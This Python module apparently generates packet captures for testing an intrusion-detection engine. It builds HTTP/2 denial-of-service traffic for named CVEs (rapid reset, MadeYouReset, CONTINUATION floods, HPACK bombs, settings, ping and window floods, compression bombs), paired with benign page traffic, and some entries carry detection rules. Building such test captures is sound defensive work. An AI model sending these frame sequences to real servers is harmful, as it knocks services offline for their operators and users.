# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on HTTP/2. Ordinary pages over it are the twin of all."""
import struct

from attacks_http import BROTLI_1M, BROTLI_OPEN, TEXT, gzip_of, zstd_bomb
from catalogue import connect, entry, one_segment, rounds
from pcapgen import ACK, PSH

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream)[0:3] + \
        struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header that is not added to the table."""
    return b"\0" + text(name) + text(value)


def text(data):
    return number(len(data), 7, 0) + data


def number(value, bits, first):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


REQUEST = b"\x82\x86\x84\x41" + text(b"www.example.com")
ANSWER = b"\x88"


def begin(cap, i=0):
    flow = connect(cap, 80, i)
    flow.to_server(PREFACE + frame(SETTINGS, 0, 0))
    flow.to_client(frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
    return flow


def coded(coding):
    return ANSWER + literal(b"content-encoding", coding)


def pages(cap, size):
    at = 0
    while cap.bytes < size:
        flow = begin(cap, at)
        for i in range(20):
            if cap.bytes >= size:
                break
            flow.to_server(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, REQUEST))
            body = gzip_of(TEXT[i:i + min(8000, max(500, size - cap.bytes))])
            one_segment(flow, 1, frame(HEADERS, END_HEADERS, 2 * i + 1, coded(b"gzip")) +
                        frame(DATA, END_STREAM, 2 * i + 1, body))
        at += 1
        flow.close()


def h2_entry(what, source, **options):
    """An entry whose function makes the hostile capture; its twin are pages."""
    def add(make):
        def both(cap, size):
            pages(cap, size) if size is not None else make(cap)
        both.__name__ = make.__name__
        entry("HTTP/2: " + what, source, **{"proto": "http2", **options})(both)
        return make
    return add


def streams(cap, count, each, side=0, begun=None):
    """What each(stream) yields, for so many streams of a connection."""
    flow = begun or begin(cap)
    one_segment(flow, side, b"".join(each(2 * i + 1) for i in range(count)))
    return flow


def request(stream, end=END_STREAM):
    return frame(HEADERS, end | END_HEADERS, stream, REQUEST)


@h2_entry("streams opened and reset at once", "CVE-2023-44487, rapid reset", short=True)
def h2_rapid_reset(cap):
    streams(cap, 15000, lambda s: request(s) + frame(RESET, 0, s, b"\0\0\0\x08"))


@h2_entry("thousands of streams in each of many connections",
          "CVE-2023-44487 style; fewer streams in a connection than max-streams", short=True,
          proto="http")
def h2_streams_everywhere(cap):
    for i in range(60):
        streams(cap, 4000, lambda s: frame(HEADERS, END_HEADERS, s, b"\x82"), begun=begin(cap, i))


@h2_entry("resets by the server, which the client provokes", "CVE-2025-8671, MadeYouReset",
          short=True)
def h2_made_you_reset(cap):
    flow = begin(cap)
    for i in range(0, 12000, 100):
        ids = [2 * (i + j) + 1 for j in range(100)]
        one_segment(flow, 0, b"".join(request(s) + frame(WINDOW, 0, s, b"\0\0\0\0") for s in ids))
        one_segment(flow, 1, b"".join(frame(RESET, 0, s, b"\0\0\0\1") for s in ids))


@h2_entry("CONTINUATION frames without end", "CVE-2024-27316, CONTINUATION flood", short=True)
def h2_continuation(cap):
    flow = begin(cap)
    out = frame(HEADERS, END_STREAM, 1, REQUEST)
    out += frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 5)) * 45000
    one_segment(flow, 0, out)


@h2_entry("header blocks one by one, on a stream with many headers",
          "CVE-2024-27316 style; values that rules look at again", short=True,
          rules='alert http2 any any -> any any (http2.header_name; content:"nowhere"; sid:1;)\n'
          'alert http any any -> any any (http.request_header; content:"nowhere"; sid:2;)\n'
          'alert http any any -> any any (http.header; content:"nowhere"; sid:3;)\n')
def h2_blocks(cap):
    flow = begin(cap)
    one_segment(flow, 0, frame(HEADERS, END_HEADERS, 1, REQUEST + literal(b"a", b"b") * 20000))
    for _ in range(4000):
        flow.to_server(frame(HEADERS, END_HEADERS, 1, literal(b"x", b"y")))


@h2_entry("empty CONTINUATION frames", "CVE-2019-9518, frames without bytes")
def h2_continuation_empty(cap):
    flow = begin(cap)
    one_segment(flow, 0, frame(HEADERS, END_STREAM, 1, REQUEST) + frame(CONTINUATION, 0, 1) * 90000)


@h2_entry("a large header, named again by one byte", "CVE-2016-6581, HPACK bomb", short=True)
def h2_hpack_bomb(cap):
    flow = begin(cap)
    big = b"\x40" + text(b"x") + text(b"y" * 4000)
    one_segment(flow, 0, frame(HEADERS, END_STREAM | END_HEADERS, 1, REQUEST + big))
    one_segment(flow, 0, b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 3,
                                        REQUEST + b"\xbe" * 2000) for i in range(300)))


@h2_entry("a large header in a table of 64 KB, named by many streams",
          "CVE-2016-6581, HPACK bomb", short=True)
def h2_hpack_bomb_large(cap):
    flow = connect(cap, 80)
    wide = frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 65536))
    flow.to_server(PREFACE + wide)
    flow.to_client(wide + frame(SETTINGS, 1, 0))
    for side in (0, 1):
        first = number(65536, 5, 0x20) + (REQUEST if side == 0 else ANSWER)
        big = b"\x40" + text(b"x") + text(b"y" * 60000)
        one_segment(flow, side, header_block(1, first + big))
        for i in range(150):
            one_segment(flow, side, frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 3,
                                          (REQUEST if side == 0 else ANSWER) + b"\xbe" * 400))


def header_block(stream, block):
    parts = [block[at:at + 16000] for at in range(0, len(block), 16000)]
    return b"".join(frame(CONTINUATION if i else HEADERS,
                          END_HEADERS if i == len(parts) - 1 else 0, stream, part)
                    for i, part in enumerate(parts))


@h2_entry("table updates of the header compression without end", "HPACK table churn")
def h2_hpack_churn(cap):
    flow = begin(cap)
    for i in range(60):
        one_segment(flow, 0, frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1,
                                   b"\x20\x3f\xe1\x1f" * 20 + REQUEST + b"\x40\0\0" * 4000))


@h2_entry("Huffman texts that stand for much", "HPACK expansion")
def h2_huffman(cap):
    flow = begin(cap)
    for i in range(60):
        one_segment(flow, 0, frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, REQUEST +
                                   b"\0" + text(b"x") + number(12000, 7, 0x80) + b"\0" * 12000))


@h2_entry("streams that stay open", "memory and work by open streams", short=True)
def h2_open_streams(cap):
    flow = begin(cap)
    for i in range(20000):
        flow.send(0, 24, request(2 * i + 1, 0))


@h2_entry("data for streams that stay open, by turns", "work by open streams", short=True)
def h2_open_streams_data(cap):
    flow = streams(cap, 4000, lambda s: request(s, 0))
    for i in range(6000):
        flow.send(0, 24, frame(DATA, 0, 2 * (i % 4000) + 1, b"x" * 20))


@h2_entry("bodies in gzip in many streams, each a bomb", "zip bombs", short=True)
def h2_bomb_gzip(cap):
    bodies(cap, b"gzip", gzip_of(bytes(1000000)), 400, END_STREAM)


@h2_entry("bodies in brotli in many streams, each a bomb", "brotli bombs", short=True)
def h2_bomb_brotli(cap):
    bodies(cap, b"br", BROTLI_1M, 1500, END_STREAM)


@h2_entry("bodies in zstd in many streams, each a bomb", "zip bombs")
def h2_bomb_zstd(cap):
    bodies(cap, b"zstd", zstd_bomb(8), 1200, END_STREAM)


@h2_entry("windows of gzip open in many streams", "memory held by decompressors", short=True)
def h2_open_gzip(cap):
    bodies(cap, b"gzip", gzip_of(TEXT[:100])[:60], 3500, 0)


@h2_entry("windows of brotli open in many streams", "memory held by decompressors", short=True)
def h2_open_brotli(cap):
    bodies(cap, b"br", BROTLI_OPEN, 4000, 0)


def bodies(cap, coding, body, count, end):
    flow = streams(cap, count, request)
    streams(cap, count, lambda s: frame(HEADERS, END_HEADERS, s, coded(coding)) +
            frame(DATA, end, s, body), 1, flow)


@h2_entry("data frames of no bytes", "CVE-2019-9518, empty frames", short=True)
def h2_empty_data(cap):
    flow = begin(cap)
    one_segment(flow, 0, request(1, 0) + frame(DATA, 0, 1) * 90000)


@h2_entry("SETTINGS without end", "CVE-2019-9515, settings flood", short=True)
def h2_settings(cap):
    flow = begin(cap)
    one_segment(flow, 0, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 50000)


@h2_entry("a SETTINGS frame with thousands of values", "CVE-2020-11080")
def h2_settings_large(cap):
    flow = begin(cap)
    one_segment(flow, 0, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2700) * 50)


@h2_entry("PING without end", "CVE-2019-9512, ping flood", short=True)
def h2_ping(cap):
    flow = begin(cap)
    one_segment(flow, 0, frame(PING, 0, 0, b"12345678") * 45000)


@h2_entry("PRIORITY frames for many streams", "CVE-2019-9513, resource loop", short=True)
def h2_priority(cap):
    streams(cap, 45000, lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s - 1, 5)))


@h2_entry("window updates of one byte", "CVE-2019-9511, data dribble")
def h2_window(cap):
    streams(cap, 50000, lambda s: frame(WINDOW, 0, s % 200 + 1, b"\0\0\0\1"))


@h2_entry("pushes of streams that never come", "CVE-2021-31618 style; promised streams")
def h2_push(cap):
    flow = streams(cap, 1, request)
    one_segment(flow, 1, b"".join(frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2 * i + 2) +
                                        REQUEST) for i in range(20000)))


@h2_entry("headers of no length", "CVE-2019-9516, empty headers")
def h2_empty_headers(cap):
    streams(cap, 100, lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s,
                                      REQUEST + b"\0\0\0" * 3000))


@h2_entry("DNS over HTTP/2, many answers in many streams", "log amplification: DoH answers", proto="doh2")
def h2_doh(cap):
    flow = begin(cap)
    for i in range(700):
        s = 2 * i + 1
        query = struct.pack(">HHHHHH", i, 0x8180, 1, 80, 0, 0) + b"\1a\0\0\1\0\1" + \
            b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4abcd" * 80
        head = literal(b"content-type", b"application/dns-message")
        one_segment(flow, 0, frame(HEADERS, END_HEADERS, s, REQUEST + head) +
                    frame(DATA, END_STREAM, s, struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) +
                          b"\1a\0\0\1\0\1"))
        one_segment(flow, 1, frame(HEADERS, END_HEADERS, s, ANSWER + head) +
                    frame(DATA, END_STREAM, s, query))


@h2_entry("frames for open streams, the newest first", "work by open streams", short=True)
def h2_open_streams_backwards(cap):
    flow = streams(cap, 4000, lambda s: request(s, 0))
    for _ in range(6):
        one_segment(flow, 0, b"".join(frame(DATA, 0, 2 * i + 1, b"x" * 5)
                                      for i in reversed(range(4000))))


@h2_entry("frames without end, for rules on frames", "work by frame", short=True, rules=(
    'alert http2 any any -> any any (frame:http2.pdu; content:"nowhere at all"; sid:1;)\n'
    'alert http2 any any -> any any (frame:http2.data; content:"nowhere at all"; sid:2;)\n'))
def h2_frames(cap):
    flow = begin(cap)
    one_segment(flow, 0, request(1, 0) + frame(DATA, 0, 1, b"x") * 70000)


@h2_entry("alerts about each of many open streams", "work by alert",
          rules='alert http2 any any -> any any (http2.frametype:8; sid:1;)\n')
def h2_alerts(cap):
    flow = streams(cap, 4000, lambda s: request(s, 0))
    streams(cap, 4000, lambda s: frame(WINDOW, 0, s, b"\0\0\0\1"), 0, flow)


COUNTS = "".join(f"alert http2 any any -> any any ({test}; sid:{i + 1};)\n" for i, test in enumerate((
    "http2.window:77777", "http2.size_update:77777", "http2.priority:77", "http2.errorcode:77",
    "http2.settings:SETTINGS_MAX_FRAME_SIZE=77777")))


@h2_entry("a rule on updates of the table, thousands in a header block",
          "Crosby and Wallach 2003; values that rules ask for one by one", rules=COUNTS, short=True)
def h2_size_updates(cap):
    for i in range(120):
        flow = begin(cap, i)
        one_segment(flow, 0, frame(HEADERS, END_HEADERS, 1, b"\x20" * 4090 + REQUEST))
        flow.to_server(frame(DATA, 0, 1, b"abc"))


@h2_entry("a rule on windows that a stream gets one by one",
          "Crosby and Wallach 2003; values that rules ask for one by one", rules=COUNTS, short=True)
def h2_window_rule(cap):
    flow = begin(cap)
    flow.to_server(request(1, 0) + frame(DATA, 0, 1, b"abc"))
    flow.to_client(frame(HEADERS, END_HEADERS, 1, ANSWER) + frame(DATA, 0, 1, b"abc"))
    for i in range(60000):
        flow.send(0, PSH | ACK, frame(WINDOW, 0, 1, b"\0\0\0\1"))
        if i % 20 == 0:
            flow.send(1, ACK)
